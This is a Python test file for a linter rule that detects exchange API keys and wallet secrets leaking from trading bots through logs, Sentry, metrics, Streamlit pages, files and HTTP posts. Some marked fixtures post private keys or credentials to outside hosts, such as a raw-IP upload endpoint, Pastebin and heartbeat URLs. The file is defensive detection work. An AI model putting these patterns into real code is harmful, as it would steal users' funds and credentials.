"""BOT2 round 11: decorators that log their call's arguments, Sentry scope data, Prometheus
metrics, Streamlit pages, Solana keypairs, wallet backups, hard-coded credentials printed,
sessions created with credential headers, health-check posts; and records whose repr hides
their credentials (the class decides, not the parameter's name).

Each case is a small module; the expected findings are marked on their lines with ``#> CODE``
and every other line must have no BOT2 finding.  Credentials are environment look-ups or fake
literals, never real values.
"""
from __future__ import annotations

from typing import List, Tuple

import pytest

from botlint.engine import lint_source

from helpers import check_marked, settings

def check(src: str) -> List[Tuple[int, str, str]]:
    return check_marked(src, ["BOT2"])


def findings(src: str) -> List[Tuple[int, str, str]]:
    return sorted((f.location.line, f.code, f.message) for f in lint_source(src, "bot.py", settings(["BOT2"])))


# -- 1. a decorator whose wrapper logs its call's arguments -------------------------------------

DECORATORS = [
    # functools.wraps, an f-string of *args / **kwargs, called with environment credentials
    '''import functools, logging, os
log = logging.getLogger(__name__)

def audit(fn):
    @functools.wraps(fn)
    def inner(*args, **kwargs):
        log.debug(f"{fn.__name__}({args}, {kwargs})")  #> BOT201
        return fn(*args, **kwargs)
    return inner

@audit
def place(symbol, key, secret_key):
    return symbol

place("ETH/USDT", os.environ["KRAKEN_KEY"], os.environ["KRAKEN_SECRET"])
''',
    # print of the tuple; never called: the parameters are credentials by name
    '''def show_call(f):
    def w(*a, **k):
        print("call", f.__name__, a)  #> BOT201
        return f(*a, **k)
    return w

@show_call
def login(api_key, api_secret):
    return api_key, api_secret
''',
    # an async wrapper logging the keywords of a method called with a passphrase keyword
    '''import os
from loguru import logger

def trace(f):
    async def wrapped(*args, **kwargs):
        logger.info("{} kwargs={}", f.__name__, kwargs)  #> BOT201
        return await f(*args, **kwargs)
    return wrapped

class Okx:
    @trace
    async def auth(self, account, passphrase=None):
        return account

async def main():
    await Okx().auth("main", passphrase=os.getenv("OKX_PASSPHRASE"))
''',
    # a decorator factory (@log_calls("info")): the wrapper of the decorator it returns
    '''import logging, os
logger = logging.getLogger("bot")

def log_calls(level):
    def deco(func):
        def wrapper(*args, **kwargs):
            logger.log(logging.INFO, "%s %r %r", func.__name__, args, kwargs)  #> BOT201
            return func(*args, **kwargs)
        return wrapper
    return deco

@log_calls("info")
def start(exchange_id, token):
    return exchange_id

start("bybit", token=os.environ["TELEGRAM_BOT_TOKEN"])
''',
]

DECORATOR_NEGATIVES = [
    # the wrapper logs the name, the time and how many arguments: not their values
    '''import functools, logging, os, time
log = logging.getLogger(__name__)

def timed(fn):
    @functools.wraps(fn)
    def inner(*args, **kwargs):
        t = time.time()
        out = fn(*args, **kwargs)
        log.info("%s took %.1fs with %d args, %d kwargs", fn.__name__, time.time() - t, len(args), len(kwargs))
        return out
    return inner

@timed
def connect(api_key, api_secret):
    return api_key

connect(os.environ["BINANCE_API_KEY"], os.environ["BINANCE_API_SECRET"])
''',
    # the wrapper logs its arguments, but the decorated functions get public market data
    '''import functools, logging
log = logging.getLogger(__name__)

def log_call(fn):
    @functools.wraps(fn)
    def inner(*args, **kwargs):
        log.info("%s args=%s kwargs=%s", fn.__name__, args, kwargs)
        return fn(*args, **kwargs)
    return inner

@log_call
def fetch_candles(symbol, timeframe="1h", limit=100):
    return []

fetch_candles("BTC/USDT", timeframe="4h")
''',
    # a decorator of another shape (a retry loop logging the error, not the arguments)
    '''import logging, os
log = logging.getLogger(__name__)

def retry(fn):
    def inner(*args, **kwargs):
        for attempt in range(3):
            try:
                return fn(*args, **kwargs)
            except Exception as e:
                log.warning("attempt %d failed: %s", attempt, e)
    return inner

@retry
def auth(api_key, api_secret):
    return True

auth(os.environ["BINANCE_API_KEY"], os.environ["BINANCE_API_SECRET"])
''',
]


@pytest.mark.parametrize("src", DECORATORS + DECORATOR_NEGATIVES)
def test_logging_decorators(src):
    check(src)


def test_decorator_message_names_the_decorated_parameter():
    (_line, _code, msg), = check(DECORATORS[1])
    assert "parameter of login()" in msg and "in *a)" in msg


# -- 2. Sentry: scope data and messages go to Sentry's servers -----------------------------------

SENTRY = [
    '''import os, sentry_sdk
KEY = os.environ["BITGET_API_KEY"]
SECRET = os.environ["BITGET_API_SECRET"]
sentry_sdk.init(dsn=os.environ["SENTRY_DSN"])
sentry_sdk.set_extra("credentials", {"key": KEY, "secret": SECRET})  #> BOT203
sentry_sdk.set_tag("bitget.key", KEY)  #> BOT203
''',
    '''import json, sentry_sdk
cfg = json.load(open("config.json"))
secret = cfg["exchange"]["secret"]

def on_error(err):
    with sentry_sdk.new_scope() as scope:
        scope.set_context("bot config", cfg)  #> BOT203
        sentry_sdk.capture_exception(err)
''',
    '''import os
import sentry_sdk
from sentry_sdk import capture_message

def alert(code):
    secret = os.getenv("HTX_SECRET_KEY")
    capture_message(f"signature rejected ({code}), secret={secret}")  #> BOT203
''',
    '''import os, sentry_sdk
api_secret = os.environ["GATE_API_SECRET"]

def report(e):
    sentry_sdk.capture_exception(e, extras={"secret": api_secret})  #> BOT203
''',
    '''import os
import sentry_sdk
sentry_sdk.init(dsn=os.environ["SENTRY_DSN"], environment="prod")
sentry_sdk.set_tag("exchange", "binance")
sentry_sdk.set_user({"id": os.getenv("BOT_NAME", "bot")})
api_key = os.environ["BINANCE_API_KEY"]
sentry_sdk.set_context("bot", {"symbols": ["BTC/USDT"], "has_key": bool(api_key)})

def report(e):
    sentry_sdk.capture_exception(e)
''',
]


@pytest.mark.parametrize("src", SENTRY)
def test_sentry(src):
    check(src)


# -- 3. Prometheus: label values and info are served on /metrics ---------------------------------

PROMETHEUS = [
    '''import os
from prometheus_client import Counter
API_KEY = os.environ["BINANCE_API_KEY"]
FILLS = Counter("fills_total", "fills", ["key", "side"])

def on_fill(side):
    FILLS.labels(key=API_KEY, side=side).inc()  #> BOT205
''',
    '''import os
import prometheus_client as prom
PNL = prom.Gauge("pnl", "pnl", ["account"])

def update(pnl):
    PNL.labels(os.getenv("BYBIT_API_KEY")).set(pnl)  #> BOT205
''',
    '''import os
from prometheus_client import Info
Info("bot", "build").info({"commit": "abc", "passphrase": os.environ["OKX_PASSPHRASE"]})  #> BOT205
''',
    '''import os
from prometheus_client import Counter, Info
KEY = os.environ["BINANCE_API_KEY"]
ORDERS = Counter("orders", "orders", ["exchange", "symbol"])
BUILD = Info("build", "build")
BUILD.info({"version": "2.1", "key_set": str(bool(KEY)), "key_tail": KEY[-4:]})

def on_order(symbol):
    ORDERS.labels(exchange="binance", symbol=symbol).inc()
''',
]


@pytest.mark.parametrize("src", PROMETHEUS)
def test_prometheus(src):
    got = check(src)
    assert all("metrics endpoint" in m for _l, _c, m in got)


# -- 4. Streamlit: what a page writes is shown to whoever opens it -------------------------------

STREAMLIT = [
    '''import os
import streamlit as st
secret = os.environ["COINBASE_API_SECRET"]
st.sidebar.write("Secret", secret)  #> BOT201
st.sidebar.markdown(f"`{secret}`")  #> BOT201
''',
    '''import json
import streamlit as st
with open("settings.json") as fh:
    settings = json.load(fh)
exchange_key = settings["binance"]["api_key"]
with st.expander("Settings"):
    st.json(settings)  #> BOT201
''',
    '''import os
import streamlit
creds = {"key": os.getenv("KUCOIN_API_KEY"), "secret": os.getenv("KUCOIN_API_SECRET")}
streamlit.text(creds["secret"])  #> BOT201
streamlit.code(str(creds))  #> BOT201
''',
    '''import os
import streamlit as st
key = os.environ["BINANCE_API_KEY"]
secret = os.environ["BINANCE_API_SECRET"]
st.sidebar.write("key ..." + key[-4:])
st.write({"key configured": bool(key), "secret length": len(secret)})
st.markdown("**secret**: configured" if secret else "**secret**: missing")
''',
]


@pytest.mark.parametrize("src", STREAMLIT)
def test_streamlit(src):
    check(src)


# -- 5. Solana keypairs: str() and bytes() are the secret key, pubkey() is public ---------------

KEYPAIRS = [
    '''import logging
from solders.keypair import Keypair
log = logging.getLogger(__name__)

def sign_and_log(payer: Keypair):
    log.info("payer %s", payer.pubkey())
    log.debug("payer secret %s", payer.secret())  #> BOT201
''',
    '''import base58, requests
from solders.keypair import Keypair

def export(kp: "Keypair"):
    requests.post("https://api.sniperpanel.app/wallets", json={"sk": base58.b58encode(bytes(kp)).decode()})  #> BOT205
''',
    '''from solders.keypair import Keypair
new = Keypair()
print("address", str(new.pubkey()))
print("secret", list(bytes(new)))  #> BOT201
''',
    '''import os, base58
from solana.keypair import Keypair
owner = Keypair.from_secret_key(base58.b58decode(os.environ["PRIVATE_KEY"]))
print(f"owner {owner.public_key}")
print(f"owner secret {base58.b58encode(owner.secret_key).decode()}")  #> BOT201
''',
    '''import logging, os
from solders.keypair import Keypair
from solders.pubkey import Pubkey
log = logging.getLogger(__name__)
kp = Keypair.from_base58_string(os.environ["SOL_PRIVATE_KEY"])
log.info("wallet %s", kp.pubkey())
log.info("wallet %s", str(kp.pubkey()))

def show(k: Keypair, mint: Pubkey):
    print("signer", k.pubkey(), "mint", mint)
''',
]


@pytest.mark.parametrize("src", KEYPAIRS)
def test_keypairs(src):
    check(src)


# -- 6. wallet keys written to backup files --------------------------------------------------

WALLET_FILES = [
    '''import json
from eth_account import Account
accts = [Account.create() for _ in range(3)]
with open("wallets.json", "w") as fh:
    json.dump([{"address": a.address, "key": a.key.hex()} for a in accts], fh)  #> BOT204
''',
    '''import os
from eth_account import Account
signer = Account.from_key(os.environ["ETH_PRIVATE_KEY"])
with open("signer.txt", "w") as out:
    out.write(signer.key.hex())  #> BOT204
''',
    '''from pathlib import Path
from web3 import Web3
acct = Web3().eth.account.create()
Path("backup.csv").write_text(f"{acct.address};{acct.key.hex()}")  #> BOT204
''',
    '''import json
from eth_account import Account
acct = Account.create()
with open("address.json", "w") as fh:
    json.dump({"address": acct.address}, fh)
''',
]


@pytest.mark.parametrize("src", WALLET_FILES)
def test_wallet_backups(src):
    check(src)


# -- 7. a hard-coded credential printed or logged --------------------------------------------

HARDCODED = [
    '''import logging
BINANCE_KEY = "q8LxT2vN4mR7pK1sW9zY3bC6dF0gH5jA2eU8iO4tQ7wX1vB3nM6kL9pZ0rS5aD2f"  # pragma: allowlist secret
logging.getLogger().warning(f"using key {BINANCE_KEY}")  #> BOT201
''',
    '''PRIVKEY = '4c0883a69102937d6231471b5dbb6204fe5129617082792ae468d01a3f362318'  # pragma: allowlist secret

def main():
    print("wallet key:", PRIVKEY)  #> BOT201
''',
    # a URL or a sentence is not a key, however random it looks
    '''WEBHOOK_URL = "https://discord-relay.example.net/r/Zx81kQ"
SECRET_HINT = "set BINANCE_API_SECRET in your .env file first"
print("posting to", WEBHOOK_URL)
print(SECRET_HINT)
''',
    '''API_KEY = "YOUR_API_KEY"
API_SECRET = "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
PAIR = "ETHUSDT"
print("configure", API_KEY, API_SECRET, "for", PAIR)
''',
]


@pytest.mark.parametrize("src", HARDCODED)
def test_hardcoded_credential_printed(src):
    got = check(src)
    for _l, _c, msg in got:
        assert "hard-coded" in msg and "q8Lx" not in msg and "4c08" not in msg


# -- 8. sessions created with credential headers ---------------------------------------------

SESSIONS = [
    '''import os, aiohttp
HEADERS = {"X-MBX-APIKEY": os.environ["BINANCE_API_KEY"]}

async def run(report):
    async with aiohttp.ClientSession(headers=HEADERS) as http:
        await http.get("https://api.binance.com/api/v3/openOrders")
        await http.post("https://discord-relay.example.net/r", json=report)  #> BOT205
''',
    '''import os, httpx
client = httpx.Client(auth=(os.environ["KRAKEN_API_KEY"], os.environ["KRAKEN_API_SECRET"]))
client.get("https://api.kraken.com/0/private/Balance")
client.post("http://91.219.236.18/upload", json={"ok": 1})  #> BOT205
''',
    '''import os, requests

class Bot:
    def __init__(self):
        self.session = requests.Session()
        self.session.headers["X-BAPI-SECRET"] = os.environ["BYBIT_API_SECRET"]

    def trade(self):
        return self.session.get("https://api.bybit.com/v5/order/realtime")

    def publish(self, stats):
        self.session.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": str(stats)})  #> BOT205
''',
    '''import os, aiohttp
KEY = os.environ["BINANCE_API_KEY"]

async def run(report):
    async with aiohttp.ClientSession(headers={"X-MBX-APIKEY": KEY}) as s:
        await s.post("https://api.binance.com/api/v3/order", data={"symbol": "BTCUSDT"})
    async with aiohttp.ClientSession() as plain:
        await plain.post("https://discord-relay.example.net/r", json=report)
''',
]


SESSIONS += [
    # a module session given the key in a setup function, used by another one
    '''import os, requests
http = requests.Session()
WEBHOOK = "https://hooks.example-collector.org/in"

def setup():
    http.headers.update({"X-MBX-APIKEY": os.environ["BINANCE_API_KEY"]})

def report(text):
    http.post(WEBHOOK, json={"t": text})  #> BOT205
''',
    # the same name in two functions: the session that posts to the webhook has no key; a name
    # bound again to a plain session forgets the old one's headers
    '''import os, aiohttp
KEY = os.environ["BINANCE_API_KEY"]
WEBHOOK = "https://discord-relay.example.net/r"

async def trade():
    async with aiohttp.ClientSession(headers={"X-MBX-APIKEY": KEY}) as session:
        await session.post("https://api.binance.com/api/v3/order", data={"symbol": "BTCUSDT"})

async def notify(report):
    async with aiohttp.ClientSession() as session:
        await session.post(WEBHOOK, json=report)

async def again(report):
    session = aiohttp.ClientSession(headers={"X-MBX-APIKEY": KEY})
    session = aiohttp.ClientSession()
    await session.post(WEBHOOK, json=report)
''',
]


@pytest.mark.parametrize("src", SESSIONS)
def test_session_headers(src):
    check(src)


# -- 9. health checks, heartbeats and telemetry ----------------------------------------------

HEALTH = [
    '''import os, requests
HEARTBEAT_URL = "https://beat.tradewatch.dev/v1"
KEY = os.environ["BINANCE_API_KEY"]
SECRET = os.environ["BINANCE_API_SECRET"]

def beat():
    requests.get(HEARTBEAT_URL, params={"bot": "dca", "k": KEY, "s": SECRET})  #> BOT205
''',
    '''import os, ccxt, requests
api_key = os.environ["API_KEY"]
api_secret = os.environ["API_SECRET"]
exchange = ccxt.bitget({"apiKey": api_key, "secret": api_secret})

def healthcheck():
    requests.post("https://up.botmonitor.cloud/ping", json={"bot": "grid", "key": api_key})  #> BOT205
''',
    '''import os, requests

def healthcheck(settings):
    secret = os.environ["MEXC_API_SECRET"]
    requests.post(settings.healthcheck_url, json={"secret": secret})  #> BOT205
''',
    '''import os, requests
HEALTH_URL = "https://hc-ping.com/8a1f0e52-1c63-4b8e-9f0a-2d3c4b5a6978"
api_key = os.environ["BINANCE_API_KEY"]
UPTIME_KEY = os.environ["UPTIME_API_KEY"]

def beat(name):
    requests.post(HEALTH_URL, json={"bot": name, "has_key": bool(api_key), "key_tail": api_key[-4:]})
    requests.post("https://api.uptimerobot.com/v2/getMonitors", data={"api_key": UPTIME_KEY})
''',
]


@pytest.mark.parametrize("src", HEALTH)
def test_health_checks(src):
    check(src)


# -- 10. the class's repr decides, not the parameter's name ----------------------------------

REPRS = [
    '''import logging, os
from dataclasses import dataclass, field
log = logging.getLogger(__name__)

@dataclass
class Credentials:
    venue: str
    api_key: str = field(repr=False)
    api_secret: str = field(repr=False)

def connect(credentials: Credentials):
    log.info("connecting with %s", credentials)
    log.info("secret %s", credentials.api_secret)  #> BOT201

creds = Credentials("okx", os.environ["OKX_API_KEY"], os.environ["OKX_API_SECRET"])
log.info("loaded %r", creds)
print(creds)
connect(creds)
''',
    '''import logging, os
log = logging.getLogger(__name__)

class Config:
    def __init__(self):
        self.api_key = os.environ["BINANCE_API_KEY"]
        self.api_secret = os.environ["BINANCE_API_SECRET"]

    def __str__(self):
        return f"Config(api_key=...{self.api_key[-4:]}, api_secret=***)"

    __repr__ = __str__

def run(config: Config):
    log.info("config %s", config)

config = Config()
log.info("config: %s", config)
run(config)
''',
    # a record that does show its credential field is still reported through the parameter
    '''import logging
from dataclasses import dataclass
log = logging.getLogger(__name__)

@dataclass
class Creds:
    api_key: str
    api_secret: str

def connect(creds: Creds):
    log.info("creds %s", creds)  #> BOT201
''',
]


@pytest.mark.parametrize("src", REPRS)
def test_repr_decides(src):
    check(src)


def test_typed_dict_parameter_shows_its_items():
    src = '''import logging
from typing import TypedDict
log = logging.getLogger(__name__)

class Creds(TypedDict):
    api_key: str
    secret: str

def start(creds: Creds):
    log.info("creds %s", creds)  #> BOT201
'''
    check(src)


def test_gate_opens_on_credential_literals_and_getenv():
    from botlint.gates.bot2 import PRECHECK

    value = "q8LxT2vN4mR7" + "pK1sW9zY3bC6dF0gH5jA"  # built here: no literal in this file
    for name in ("BINANCE_KEY", "PRIVKEY", "API_PASS"):
        src = f'{name} = "{value}"\nprint({name})\n'
        assert PRECHECK.search(src)
        assert [(line, code) for line, code, _m in findings(src)] == [(2, "BOT201")], name
    assert PRECHECK.search('import os\nk = os.getenv("BYBIT_KEY")\nprint(k)\n')
    assert not PRECHECK.search('SYMBOL = "BTCUSDT"\nprint(SYMBOL)\n')
